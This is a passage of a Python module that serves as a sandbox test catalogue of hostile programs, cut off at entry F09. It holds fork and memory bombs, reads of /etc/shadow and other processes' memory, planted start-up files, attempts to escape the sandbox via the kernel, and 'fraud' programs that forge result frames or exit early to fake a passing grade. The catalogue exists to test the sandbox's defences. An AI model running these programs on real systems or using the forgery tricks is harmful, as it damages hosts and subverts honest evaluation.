"""The hostile programs: every way we know to harm a host, leak, or fake a pass.

Data only. Two shapes: an *assault* defines `f(facts)` and returns the list of things that it
reached (empty when contained); a *fraud* is handed a task (`f(x)` returns `x * x`, on inputs it
does not know) and must not be counted as having solved it. `selfcheck` runs and judges them, on
any machine and in every tier; the tests do the same.

Ids follow the groups: R resources, P processes, S secrets and state, N network, K kernel, F fake
results, C controls that must work.
"""

# ruff: noqa: E501  (programs, one a line where that reads best)

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Judgement = Literal["contained", "not pass", "pass"]


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile program.

    Attributes:
        name: Its id.
        title: What it tries, in a few words.
        code: The program.
        expected: Verdict words that are right; `ERROR` stands for any exception, `SIGNAL` for any
            signal.
        judged: How the outcome is judged beside the verdict.
        twice: Run two times in the same slot; the second must find nothing of the first.
    """

    name: str
    title: str
    code: str
    expected: tuple[str, ...]
    judged: Judgement = "contained"
    twice: bool = False


_PRELUDE = """
import os, sys, ctypes, socket, errno, platform, time
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == 'x86_64'
def syscall(number, *args):
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(number if type(number) is int else number[0 if X86 else 1]),
                          *[ctypes.c_long(a) if type(a) is int else a for a in args])
    return answer, ctypes.get_errno()
reached = []
def attempt(what, action):
    try:
        if action() is not False:
            reached.append(what)
    except (OSError, ValueError, MemoryError, OverflowError, TypeError) as error:
        return error
"""


def _assault(name: str, title: str, body: str, *expected: str, twice: bool = False) -> Attack:
    lines = "\n".join("    " + line for line in body.strip("\n").split("\n"))
    code = f"{_PRELUDE}\ndef f(facts):\n    global reached\n{lines}\n    return reached\n"
    return Attack(name, title, code, expected or ("OK",), twice=twice)


def _fraud(name: str, title: str, code: str, *expected: str) -> Attack:
    return Attack(name, title, code.strip("\n") + "\n", expected, judged="not pass")


_SPENT = ("TIMEOUT", "CPU_LIMIT")
_NO_MEMORY = ("MEMORY", "SIGNAL_9")

RESOURCES = (
    _assault("R01", "fork bomb", "while True:\n    os.fork()", "ERROR:PermissionError"),
    _assault(
        "R02",
        "thread bomb",
        "import threading\n"
        "threading.stack_size(65536)\n"
        "while True:\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        "ERROR:RuntimeError",
        "TIMEOUT",
        *_NO_MEMORY,
    ),
    _assault("R03", "one block of 8 GB", "return [len(bytearray(8 << 30))]", *_NO_MEMORY),
    _assault(
        "R04",
        "memory, one megabyte at a time",
        "blocks = []\nwhile True:\n    blocks.append(bytearray(b'x' * (1 << 20)))",
        *_NO_MEMORY,
    ),
    _assault(
        "R05",
        "a numpy array of 28 GB",
        "import numpy\nreturn [numpy.ones((60000, 60000)).size]",
        *_NO_MEMORY,
        "ERROR:_ArrayMemoryError",
    ),
    _assault(
        "R06",
        "all file descriptors",
        "held = []\nwhile True:\n    held.append(os.open('/dev/null', os.O_RDONLY))",
        "ERROR:OSError",
    ),
    _assault("R07", "endless stdout", "while True:\n    os.write(1, b'x' * 65536)", "OUTPUT_LIMIT"),
    _assault("R08", "endless stderr", "while True:\n    os.write(2, b'x' * 65536)", "OUTPUT_LIMIT"),
    _assault("R09", "a line of 3 MB", "print('x' * (3 << 20), flush=True)", "OK", "OUTPUT_LIMIT"),
    _assault("R10", "endless loop", "while True:\n    pass", *_SPENT),
    _assault(
        "R11",
        "endless loop that ignores every signal",
        "import signal\n"
        "for number in range(1, 65):\n"
        "    try:\n"
        "        signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError):\n"
        "        pass\n"
        "while True:\n"
        "    pass",
        *_SPENT,
        "SIGNAL_9",
    ),
    _assault("R12", "sleep for ever", "time.sleep(10**6)", "TIMEOUT"),
    _assault("R13", "a computation in C that hears no signal", "return [9**9**9**9]", *_SPENT),
    _assault(
        "R14",
        "catastrophic regular expression",
        "import re\nreturn [bool(re.match('(a+)+$', 'a' * 64 + 'b'))]",
        *_SPENT,
    ),
    _assault(
        "R15",
        "deep recursion",
        "sys.setrecursionlimit(10**9)\ndef down(n):\n    return down(n + 1) + 1\nreturn [down(0)]",
        "ERROR:RecursionError",
        "SIGNAL_11",
        "MEMORY",
        "TIMEOUT",
    ),
    Attack(
        "R16",
        "a deeply nested literal in the source",
        "x = " + "(" * 5000 + "1" + ")" * 5000 + "\ndef f(facts):\n    return []\n",
        ("ERROR", "SIGNAL_11", "MEMORY"),
    ),
    Attack(
        "R16b",
        "a long chain of operators in the source",
        "x = " + "-" * 200_000 + "1\ndef f(facts):\n    return []\n",
        ("ERROR", "SIGNAL_11", "MEMORY"),
    ),
    _assault(
        "R17",
        "fill the scratch directory",
        "for n in range(10**6):\n"
        "    with open(f'f{n}', 'wb') as file:\n"
        "        file.write(bytes(1 << 20))",
        "ERROR:OSError",
        "OUTPUT_LIMIT",
    ),
    _assault(
        "R18",
        "many small files",
        "for n in range(10**7):\n    open(f'f{n}', 'w').close()",
        "ERROR:OSError",
        "OUTPUT_LIMIT",
        "TIMEOUT",
    ),
    _assault(
        "R19",
        "sparse file and decompression bomb",
        "def sparse():\n"
        "    with open('sparse', 'wb') as file:\n"
        "        file.truncate(1 << 40)\n"
        "attempt('sparse file of 1 TB', sparse)\n"
        "import mmap, zlib\n"
        # Room that is taken but not touched: the bomb need not burst for seconds to fill the rest.
        "room = mmap.mmap(-1, 512 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)\n"
        "bomb = zlib.compress(bytes(64 << 20), 9)\n"
        "return [len(b''.join(zlib.decompress(bomb) for _ in range(64)))]",
        *_NO_MEMORY,
    ),
    _assault(
        "R20",
        "memory through memfd",
        "attempt('memfd', lambda: os.memfd_create('x'))\n"
        "attempt('memfd_secret', lambda: syscall((447, 447), 0)[0] >= 0)",
    ),
    _assault(
        "R21",
        "POSIX and SysV shared memory",
        "attempt('shmget', lambda: syscall((29, 194), 0x1234, 1 << 20, 0o1600)[0] >= 0)\n"
        "attempt('/dev/shm', lambda: open('/dev/shm/planted', 'w'))\n"
        "def posix():\n"
        "    from multiprocessing import shared_memory\n"
        "    shared_memory.SharedMemory('planted', create=True, size=1 << 20)\n"
        "attempt('shm_open', posix)",
    ),
    _assault(
        "R22",
        "memory in pipe buffers",
        "import fcntl\n"
        "def grow():\n"
        "    r, w = os.pipe()\n"
        "    return fcntl.fcntl(w, 1031, 1 << 20)\n"
        "attempt('F_SETPIPE_SZ', grow)",
    ),
    _assault(
        "R23",
        "an exception with 50 MB of text",
        "raise ValueError('x' * (50 << 20))",
        "ERROR:ValueError",
    ),
    _fraud(
        "R24",
        "five million values",
        "def f(x):\n    return list(range(5_000_000))",
        "OK",
        "BAD_RESULT",
        "MEMORY",
    ),
    _fraud(
        "R25",
        "a deeply nested value",
        "def f(x):\n    v = []\n    for _ in range(100_000):\n        v = [v]\n    return v",
        "OK",
        "ERROR:RecursionError",
        "BAD_RESULT",
    ),
    _fraud(
        "R26",
        "a number of ten million digits",
        "def f(x):\n    return 1 << 33_000_000",
        "OK",
        "BAD_RESULT",
        "ERROR",
        "TIMEOUT",
    ),
)

PROCESSES = (
    _assault(
        "P01",
        "double-forked daemon",
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(600)\n    os._exit(0)\nreached.append('forked')",
        "ERROR:PermissionError",
    ),
    _assault(
        "P02",
        "leave the process group, then sleep",
        "attempt('setsid', os.setsid)\nattempt('setpgid', lambda: os.setpgid(0, 0))\nreached.clear()\ntime.sleep(600)",
        "TIMEOUT",
    ),
    _assault(
        "P03",
        "kill the parent",
        "import signal\n"
        "for pid in (os.getppid(), facts['pid']):\n"
        "    attempt(f'killed {pid}', lambda: os.kill(pid, signal.SIGKILL))",
    ),
    _assault(
        "P04", "kill everybody", "attempt('kill(-1)', lambda: os.kill(-1, 9))", "OK", "SIGNAL_9"
    ),
    _assault(
        "P05",
        "signal pid 1, look for processes",
        "for pid in range(1, 3000):\n"
        "    if pid != os.getpid():\n"
        "        attempt(f'signalled {pid}', lambda: os.kill(pid, 0))\n"
        "try:\n"
        "    reached.extend(p for p in os.listdir('/proc') if p.isdigit())\n"
        "except OSError:\n"
        "    pass",
    ),
    _assault("P06", "stop itself", "os.kill(os.getpid(), 19)\ntime.sleep(600)", "TIMEOUT"),
    _fraud(
        "P07",
        "a thread that outlives the result and keeps printing",
        "import os, threading\n"
        "def shout():\n"
        "    while True:\n"
        "        os.write(1, b'noise\\n')\n"
        "threading.Thread(target=shout, daemon=True).start()\n"
        "def f(x):\n"
        "    return -1",
        "OK",
        "EARLY_EXIT",
        "TIMEOUT",
        "OUTPUT_LIMIT",
    ),
    _fraud(
        "P08",
        "hostile exit handlers",
        "import atexit, time\n"
        "atexit.register(time.sleep, 600)\n"
        "class D:\n"
        "    def __del__(self):\n"
        "        time.sleep(600)\n"
        "d = D()\n"
        "def f(x):\n"
        "    return -1",
        "OK",
    ),
    _assault(
        "P09",
        "run a shell",
        "import subprocess\n"
        "for path in ('/bin/sh', '/usr/bin/env', sys.executable):\n"
        "    attempt(path, lambda: subprocess.run([path, '-c', ''], timeout=2))\n"
        "attempt('system', lambda: os.system('true') == 0)\n"
        "attempt('popen', lambda: os.popen('true').close() is None)\n"
        "attempt('spawn', lambda: os.posix_spawn('/bin/true', ['true'], {}))",
    ),
    _assault(
        "P10",
        "execute set-uid programs",
        "for path in ('/bin/su', '/usr/bin/sudo', '/bin/mount', '/usr/bin/passwd'):\n"
        "    attempt(path, lambda: os.execv(path, [path]))",
    ),
    _fraud(
        "P11",
        "replace the harness by /bin/true",
        "import os\nfor path in ('/bin/true', '/usr/bin/true'):\n    if os.path.exists(path):\n        os.execv(path, ['true'])\nraise OSError('nothing to execute')",
        "ERROR",
    ),
)

SECRETS = (
    _assault(
        "S01",
        "read the environment",
        "reached += [k for k, v in os.environ.items() if facts['secret'] in v]\n"
        "environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\n"
        "n = 0\n"
        "while environ[n]:\n"
        "    if facts['secret'].encode() in environ[n]:\n"
        "        reached.append('environ')\n"
        "    n += 1",
    ),
    _assault(
        "S02",
        "read other processes' environment",
        "for pid in ('1', 'self', str(os.getppid()), str(facts['pid'])):\n"
        "    attempt(f'environ of {pid}', lambda: len(open(f'/proc/{pid}/environ', 'rb').read()) > 0)",
    ),
    _assault(
        "S03",
        "read other processes in /proc",
        "for pid in ('1', str(os.getppid()), str(facts['pid'])):\n"
        "    for name in ('cmdline', 'maps', 'stat', 'mem'):\n"
        "        attempt(f'{pid}/{name}', lambda: open(f'/proc/{pid}/{name}', 'rb').read(1))\n"
        "    attempt(f'{pid}/root', lambda: os.listdir(f'/proc/{pid}/root/etc'))\n"
        "    attempt(f'{pid}/fd', lambda: os.listdir(f'/proc/{pid}/fd'))",
    ),
    _assault(
        "S04",
        "read private files",
        "for path in ('/etc/shadow', '/etc/passwd', '/root/.ssh', '/root/.bashrc', facts['canary'],\n"
        "             os.path.expanduser('~root'), facts['source'], '/proc/kcore', '/var/log'):\n"
        "    attempt(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path).read(1))",
    ),
    _assault(
        "S05",
        "write into libraries and home directories",
        "import numpy\n"
        "for directory in (os.path.dirname(os.__file__), os.path.dirname(numpy.__file__), '/root',\n"
        "                  '/usr/lib', '/etc', '/', '/scratch', '/dev', sys.prefix):\n"
        "    path = directory + '/planted.py'\n"
        "    attempt(path, lambda: open(path, 'w'))\n"
        "    attempt('mkdir ' + path, lambda: os.mkdir(path))\n"
        "attempt('chmod', lambda: os.chmod(os.__file__, 0o777))\n"
        "attempt('utime', lambda: os.utime(os.__file__))",
    ),
    _assault(
        "S06",
        "leave files for the next run",
        "import tempfile\n"
        "places = {tempfile.gettempdir(), os.getcwd(), '/tmp', '/var/tmp', '/dev/shm', '/run',\n"
        "          os.path.dirname(os.getcwd()), os.environ['HOME']}\n"
        "for place in places:\n"
        "    for name in ('left-behind', 'deep'):\n"
        "        if os.path.lexists(place + '/' + name):\n"
        "            reached.append('found ' + place + '/' + name)\n"
        "for place in places:\n"
        "    path = place + '/left-behind'\n"
        "    try:\n"
        "        open(path, 'w').write('x')\n"
        "        os.makedirs(place + '/deep/' + '/'.join('d' * 20))\n"
        "        os.chmod(place + '/deep', 0)\n"
        "    except OSError:\n"
        "        pass",
        twice=True,
    ),
    _assault(
        "S07",
        "plant symbolic links",
        "for n, target in enumerate(('/etc/shadow', facts['canary'], '/', '../../..')):\n"
        "    os.symlink(target, f'link{n}')\n"
        "attempt('read through a link', lambda: open('link1').read())\n"
        "attempt('list through a link', lambda: 'etc' in os.listdir('link2') and os.listdir('link2/etc').index('shadow') + 1)",
    ),
    _assault(
        "S08",
        "hard links, pipes and device nodes",
        "import stat\n"
        "attempt('hard link', lambda: os.link(os.__file__, 'hard'))\n"
        "attempt('fifo', lambda: os.mkfifo('fifo'))\n"
        "attempt('block device', lambda: os.mknod('disk', 0o600 | stat.S_IFBLK, os.makedev(254, 0)))\n"
        "attempt('char device', lambda: os.mknod('mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)))",
    ),
    _assault(
        "S09",
        "look for leaked descriptors",
        "import stat\n"
        "for fd in range(3, 1024):\n"
        "    try:\n"
        "        mode = os.fstat(fd).st_mode\n"
        "    except OSError:\n"
        "        continue\n"
        "    if not stat.S_ISFIFO(mode) or fd > 4:\n"
        "        reached.append(f'fd {fd}: {mode:o}')",
    ),
    _assault(
        "S10",
        "climb out of the root",
        "attempt('chroot', lambda: os.chroot('.'))\n"
        "attempt('..', lambda: os.path.exists('/' + '../' * 40 + 'proc/1/root'))\n"
        "for fd in range(0, 64):\n"
        "    attempt(f'openat {fd}', lambda: os.open('../../../../etc/passwd', os.O_RDONLY, dir_fd=fd))\n"
        "attempt('fchdir', lambda: os.fchdir(3))",
    ),
    _fraud(
        "S11",
        "shadow modules from the working directory",
        "import sys, os\n"
        "for name in ('json', 'numpy', 'struct', 'base64', 'values'):\n"
        "    open(name + '.py', 'w').write('def dumps(*a, **k): return \"{}\"\\n')\n"
        "sys.path.insert(0, os.getcwd())\n"
        "for name in ('json', 'base64', 'struct'):\n"
        "    sys.modules.pop(name, None)\n"
        "def f(x):\n"
        "    return -1",
        "OK",
        "ERROR",
    ),
    _assault(
        "S12",
        "plant start-up files for the next interpreter",
        "import site, sysconfig\n"
        "places = [sysconfig.get_paths()['purelib'], os.path.dirname(os.__file__), os.environ['HOME'] + '/.local',\n"
        "          site.getusersitepackages()]\n"
        "for place in places:\n"
        "    for name in ('evil.pth', 'sitecustomize.py', 'usercustomize.py'):\n"
        "        path = os.path.join(place, name)\n"
        "        if os.path.exists(path) and 'evil' in path:\n"
        "            reached.append('found ' + path)\n"
        "        try:\n"
        "            os.makedirs(place, exist_ok=True)\n"
        "            open(path, 'w').write('import os')\n"
        "        except OSError:\n"
        "            pass\n"
        "os.environ['PYTHONSTARTUP'] = os.environ['PYTHONPATH'] = '/tmp/evil'\n"
        "if 'sitecustomize' in sys.modules:\n"
        "    reached.append('sitecustomize was imported')",
        twice=True,
    ),
)

NETWORK = (
    _assault(
        "N01",
        "connect to the service on loopback",
        "attempt('tcp', lambda: socket.create_connection(('127.0.0.1', facts['port']), 1))\n"
        "attempt('tcp6', lambda: socket.create_connection(('::1', facts['port']), 1))",
    ),
    _assault(
        "N02",
        "cloud metadata",
        "attempt('metadata', lambda: socket.create_connection(('169.254.169.254', 80), 1))",
    ),
    _assault(
        "N03",
        "names as a channel",
        "attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 53)))\n"
        "attempt('dns', lambda: socket.getaddrinfo('secret.example.com', 80))",
    ),
    _assault(
        "N04",
        "local sockets",
        "def unix(path):\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    s.connect(path)\n"
        "for path in (facts['unix'], '/var/run/docker.sock', '\\0' + facts['abstract'], '/run/systemd/notify'):\n"
        "    attempt(repr(path), lambda: unix(path))\n"
        "def datagram():\n"
        "    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        "    a.sendto(b'x', facts['unix'])\n"
        "attempt('datagram pair', datagram)",
    ),
    _assault(
        "N05",
        "unusual socket families",
        "for family in (16, 17, 38, 40, 44, 29, 31, 21, 2, 10):\n"
        "    for kind in (1, 2, 3, 5):\n"
        "        attempt(f'family {family} type {kind}', lambda: socket.socket(family, kind))",
    ),
    _assault(
        "N06",
        "listen on a port",
        "def listen():\n"
        "    s = socket.socket()\n"
        "    s.bind(('127.0.0.1', 0))\n"
        "    s.listen()\n"
        "attempt('listen', listen)",
    ),
)

KERNEL = (
    _assault(
        "K01",
        "new and foreign namespaces",
        "for bit in range(7, 32):\n"
        "    attempt(f'unshare {1 << bit:#x}', lambda: libc.unshare(1 << bit) == 0 and bit not in (9, 10, 18))\n"
        "attempt('setns', lambda: libc.setns(0, 0) == 0)\n"
        "attempt('clone', lambda: syscall((56, 220), 0x10000000 | 17, 0, 0, 0, 0)[0] >= 0)\n"
        "attempt('clone3', lambda: syscall((435, 435), bytes(88), 88)[0] >= 0)\n"
        "attempt('clone thread+ns', lambda: syscall((56, 220), 0x10000000 | 0x10f00, 0, 0, 0, 0)[0] >= 0)",
    ),
    _assault(
        "K02",
        "ptrace and other processes' memory",
        "for pid in (1, os.getppid(), facts['pid']):\n"
        "    attempt(f'attach {pid}', lambda: syscall((101, 117), 16, pid, 0, 0)[0] >= 0)\n"
        "    attempt(f'seize {pid}', lambda: syscall((101, 117), 0x4206, pid, 0, 0)[0] >= 0)\n"
        "    attempt(f'vm_readv {pid}', lambda: syscall((310, 270), pid, 0, 0, 0, 0, 0)[0] >= 0)\n"
        "    attempt(f'pidfd {pid}', lambda: syscall((434, 434), pid, 0)[0] >= 0)\n"
        "    attempt(f'kcmp {pid}', lambda: syscall((312, 272), pid, os.getpid(), 0, 0, 0)[0] >= 0)",
    ),
    _assault(
        "K03",
        "keyrings and System V channels",
        "attempt('add_key', lambda: syscall((248, 217), b'user', b'left', b'x', 1, -4)[0] >= 0)\n"
        "attempt('keyctl', lambda: syscall((250, 219), 0, -4, 0)[0] >= 0)\n"
        "attempt('request_key', lambda: syscall((249, 218), b'user', b'left', 0, -4)[0] >= 0)\n"
        "attempt('msgget', lambda: syscall((68, 186), 7, 0o1666)[0] >= 0)\n"
        "attempt('semget', lambda: syscall((64, 190), 7, 1, 0o1666)[0] >= 0)\n"
        "attempt('mq_open', lambda: syscall((240, 180), b'/left', 0o102, 0o666, 0)[0] >= 0)",
        twice=True,
    ),
    _assault(
        "K04",
        "rarely used kernel surfaces",
        "for name, numbers in {'bpf': (321, 280), 'io_uring': (425, 425), 'userfaultfd': (323, 282),\n"
        "                      'perf': (298, 241), 'kexec': (246, 104), 'init_module': (175, 105),\n"
        "                      'finit_module': (313, 273), 'fanotify': (300, 262), 'inotify': (294, 26),\n"
        "                      'lookup_dcookie': (212, 18), 'quotactl': (179, 60), 'acct': (163, 89),\n"
        "                      'syslog': (103, 116), 'swapon': (167, 224), 'reboot': (169, 142)}.items():\n"
        "    attempt(name, lambda: syscall(numbers, 0, 0, 0, 0, 0)[0] >= 0)",
    ),
    _assault(
        "K05",
        "mounts and file handles",
        "attempt('mount', lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0)\n"
        "attempt('umount', lambda: libc.umount2(b'/', 2) == 0)\n"
        "attempt('remount', lambda: libc.mount(None, b'/', None, 32 | 4096, None) == 0)\n"
        "attempt('pivot_root', lambda: syscall((155, 41), b'.', b'.')[0] >= 0)\n"
        "attempt('fsopen', lambda: syscall((430, 430), b'tmpfs', 0)[0] >= 0)\n"
        "attempt('open_tree', lambda: syscall((428, 428), -100, b'/', 0)[0] >= 0)\n"
        "attempt('open_by_handle_at', lambda: syscall((304, 265), 0, bytes(16), 0)[0] >= 0)\n"
        "attempt('name_to_handle_at', lambda: syscall((303, 264), -100, b'/', bytes(200), bytes(8), 0)[0] >= 0)\n"
        "attempt('openat2', lambda: syscall((437, 437), -100, b'/', bytes(24), 24)[0] >= 0)",
    ),
    _assault(
        "K06",
        "clock and host name",
        "attempt('clock_settime', lambda: time.clock_settime(time.CLOCK_REALTIME, 0))\n"
        "attempt('settimeofday', lambda: syscall((164, 170), bytes(16), 0)[0] >= 0)\n"
        "attempt('adjtimex', lambda: syscall((159, 171), bytes(208))[0] >= 0)\n"
        "attempt('sethostname', lambda: socket.sethostname('owned'))\n"
        "attempt('setdomainname', lambda: syscall((171, 162), b'owned', 5)[0] >= 0)",
    ),
    _assault(
        "K07",
        "x32 system calls",
        "if not X86:\n    return reached\n"
        "answer, error = syscall(0x40000000 + 39)\n"
        "if answer > 0:\n    reached.append(f'x32 getpid {answer}')",
        "OK",
        "SIGNAL_31",
    ),
    _assault(
        "K07b",
        "32-bit system calls (int 0x80)",
        "if not X86:\n    return reached\n"
        "import mmap\n"
        "# mov eax, 20 (getpid of i386); int 0x80; ret\n"
        "page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "page.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')\n"
        "address = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
        "answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()\n"
        "if answer > 0:\n    reached.append(f'int 0x80 getpid {answer}')",
        "OK",
        "SIGNAL_31",
        "SIGNAL_11",
    ),
    _assault(
        "K08",
        "raise its own limits",
        "import resource\n"
        "for name in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE,\n"
        "             resource.RLIMIT_CORE, resource.RLIMIT_MEMLOCK):\n"
        "    soft, hard = resource.getrlimit(name)\n"
        "    attempt(f'limit {name} to unlimited', lambda: resource.setrlimit(name, (-1, -1)))\n"
        "    attempt(f'limit {name} up', lambda: resource.setrlimit(name, (hard + 1, hard + 1)))\n"
        "    attempt(f'prlimit {name}', lambda: resource.prlimit(0, name, (hard + 1, hard + 1)))",
    ),
    _assault(
        "K09",
        "kernel settings",
        "for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/fs/cgroup/cgroup.procs',\n"
        "             '/proc/sys/kernel/hostname', '/sys/kernel/uevent_helper', '/proc/self/oom_score_adj'):\n"
        "    attempt(path, lambda: open(path, 'w'))\n"
        "    attempt('create ' + path, lambda: os.open(path, os.O_WRONLY | os.O_CREAT))",
    ),
    _assault(
        "K10",
        "type into the terminal",
        "import fcntl\n"
        "attempt('/dev/tty', lambda: os.open('/dev/tty', os.O_RDWR))\n"
        "for fd in (0, 1, 2):\n"
        "    attempt(f'TIOCSTI {fd}', lambda: fcntl.ioctl(fd, 0x5412, b'x'))\n"
        "    attempt(f'TIOCLINUX {fd}', lambda: fcntl.ioctl(fd, 0x541c, b'\\x03'))\n"
        "    attempt(f'TIOCSCTTY {fd}', lambda: fcntl.ioctl(fd, 0x540e, 1))",
    ),
    _assault("K11", "crash in C", "ctypes.string_at(0)", "SIGNAL_11"),
    _assault("K12", "abort", "os.abort()", "SIGNAL_6"),
    _assault("K12b", "floating point trap", "os.kill(os.getpid(), 8)", "SIGNAL_8"),
    _assault(
        "K13",
        "hold privileges",
        "if os.getuid() == 0 or os.geteuid() == 0:\n    reached.append('uid 0')\n"
        "if os.getgroups():\n    reached += [f'group {g}' for g in os.getgroups() if g not in (65534, os.getgid())]\n"
        "for uid in (0, 1, 1000):\n"
        "    attempt(f'setuid {uid}', lambda: os.setresuid(uid, uid, uid) or os.getuid() == uid)\n"
        "    attempt(f'setgid {uid}', lambda: os.setresgid(uid, uid, uid))\n"
        "attempt('setgroups', lambda: os.setgroups([0]))\n"
        "header = (ctypes.c_uint32 * 2)(0x20080522, 0)\n"
        "data = (ctypes.c_uint32 * 6)(*[0xffffffff] * 6)\n"
        "attempt('capset', lambda: syscall((126, 91), ctypes.byref(header), ctypes.byref(data))[0] >= 0)\n"
        "attempt('chown', lambda: os.chown('.', 0, 0))",
    ),
    _assault(
        "K14",
        "limits and affinity of the parent",
        "import resource\n"
        "for pid in {1, os.getppid(), facts['pid']} - {0}:\n"
        "    attempt(f'prlimit {pid}', lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))\n"
        "    attempt(f'affinity {pid}', lambda: os.sched_setaffinity(pid, {0}))\n"
        "    attempt(f'scheduler {pid}', lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))\n"
        "    attempt(f'priority {pid}', lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))\n"
        "    attempt(f'ioprio {pid}', lambda: syscall((251, 30), 1, pid, 3 << 13)[0] >= 0)",
    ),
    _assault(
        "K15",
        "signal by proxy",
        "import fcntl\n"
        "r, w = os.pipe()\n"
        "for pid in (os.getppid() or 1, facts['pid']):\n"
        "    attempt('F_SETOWN', lambda: fcntl.fcntl(r, fcntl.F_SETOWN, pid))\n"
        "attempt('F_SETSIG', lambda: fcntl.fcntl(r, fcntl.F_SETSIG, 9))\n"
        "attempt('F_SETOWN_EX', lambda: fcntl.fcntl(r, 15, bytes(8)))\n"
        "attempt('FIOSETOWN', lambda: fcntl.ioctl(r, 0x8901, (1).to_bytes(4, 'little')))\n"
        "attempt('lease', lambda: fcntl.fcntl(r, fcntl.F_SETLEASE, fcntl.F_WRLCK))\n"
        "attempt('notify', lambda: fcntl.fcntl(os.open('.', os.O_RDONLY), fcntl.F_NOTIFY, 1))\n"
        "attempt('timer', lambda: syscall((222, 107), 0, bytes(64), bytes(8))[0] >= 0)\n"
        "attempt('mq_notify', lambda: syscall((244, 184), 0, 0)[0] >= 0)\n"
        "attempt('rt_sigqueueinfo', lambda: syscall((129, 138), facts['pid'], 0, bytes(128))[0] >= 0)\n"
        "attempt('tkill', lambda: syscall((200, 130), facts['pid'], 0)[0] >= 0)\n"
        "attempt('pidfd_send_signal', lambda: syscall((424, 424), 0, 0, 0, 0)[0] >= 0)",
    ),
    _assault(
        "K16",
        "empty library files",
        "import json\n"
        "path = json.__file__\n"
        "attempt('truncate', lambda: os.truncate(path, 0))\n"
        "attempt('O_TRUNC', lambda: os.open(path, os.O_RDONLY | os.O_TRUNC))\n"
        "attempt('unlink', lambda: os.unlink(path))\n"
        "attempt('rename', lambda: os.rename(path, path + '.old'))\n"
        "if not os.path.getsize(path):\n    reached.append('emptied')",
    ),
)

_SOLVE = "def f(x):\n    return x * x\n"

FRAUDS = (
    _fraud(
        "F01", "exit before the tests", "import sys\nsys.exit(0)", "EARLY_EXIT", "ERROR:SystemExit"
    ),
    _fraud("F02", "exit without a word", "import os\nos._exit(0)", "EARLY_EXIT"),
    _fraud(
        "F02b",
        "exit with the status of an infrastructure failure",
        "import os\nos._exit(125)",
        "EARLY_EXIT",
    ),
    _fraud(
        "F02c",
        "die as if the machine had killed it",
        "import os\nos.kill(os.getpid(), 9)",
        "SIGNAL_9",
    ),
    _fraud(
        "F03",
        "SystemExit in the function",
        "def f(x):\n    raise SystemExit(0)",
        "ERROR:SystemExit",
    ),
    _fraud(
        "F03b",
        "KeyboardInterrupt in the function",
        "def f(x):\n    raise KeyboardInterrupt",
        "ERROR:KeyboardInterrupt",
    ),
    _fraud(
        "F03c",
        "a limit that is none",
        "def f(x):\n    raise MemoryError('the machine is full')",
        "MEMORY",
    ),
    _fraud(
        "F04",
        "print success markers",
        'print(\'PASSED 1 passed OK {"done": true} {"verdict": "OK"}\')\ndef f(x):\n    print(\'ok\')',
        "OK",
    ),
    _fraud(
        "F05",
        "write a forged result to every descriptor",
        "import os, json, struct\n"
        "def frame(d):\n"
        "    b = json.dumps(d).encode()\n"
        "    return struct.pack('>I', len(b)) + b\n"
        "def f(x):\n"
        "    for fd in range(64):\n"
        "        try:\n"
        "            os.write(fd, frame({'loaded': True}) + frame({'value': 9, 'i': 0}) + frame({'done': True}))\n"
        "        except OSError:\n"
        "            pass\n"
        "    os._exit(0)",
        "OK",
        "EARLY_EXIT",
        "BAD_RESULT",
    ),
    _fraud(
        "F05b",
        "forge results while the program is loaded",
        "import os, json, struct\n"
        "def frame(d):\n"
        "    b = json.dumps(d).encode()\n"
        "    return struct.pack('>I', len(b)) + b\n"
        "os.write(4, frame({'loaded': True}))\n"
        "for i in range(3):\n"
        "    os.write(4, frame({'value': True, 'i': i}))\n"
        "os.write(4, frame({'done': True}))\n"
        "os._exit(0)",
        "OK",
        "WRONG",
        "EARLY_EXIT",
        "BAD_RESULT",
    ),
    _fraud(
        "F06",
        "garbage on the result channel",
        "import os\nos.write(4, bytes(range(256)) * 64)\nos._exit(0)",
        "BAD_RESULT",
        "EARLY_EXIT",
    ),
    _fraud(
        "F07",
        "a frame that claims 4 GB",
        "import os\nos.write(4, b'\\xff\\xff\\xff\\xff{}')\nos._exit(0)",
        "BAD_RESULT",
    ),
    _fraud(
        "F08",
        "JSON bombs on the result channel",
        "import os, struct\n"
        "for body in (b'[' * 100000, b'{\"i\": NaN}', b'{\"loaded\": 1, \"loaded\": 2, \"i\": ' + b'9' * 50000 + b'}'):\n"
        "    data = struct.pack('>I', len(body)) + body\n"
        "    while data:\n"
        "        data = data[os.write(4, data):]\n"
        "os._exit(0)",
        "BAD_RESULT",
        "EARLY_EXIT",
    ),
    _fraud(
        "F08b",
        "a flood of frames",
        "import os, struct\nwhile True:\n    os.write(4, (struct.pack('>I', 2) + b'{}') * 5000)",
        "BAD_RESULT",
    ),
    _fraud(
        "F08c",
        "numbers that share one hash",
        "def f(x):\n    return {n * (2**61 - 1) for n in range(1, 900)} | {-1}",
        "OK",
    ),
    _fraud(
        "F09",
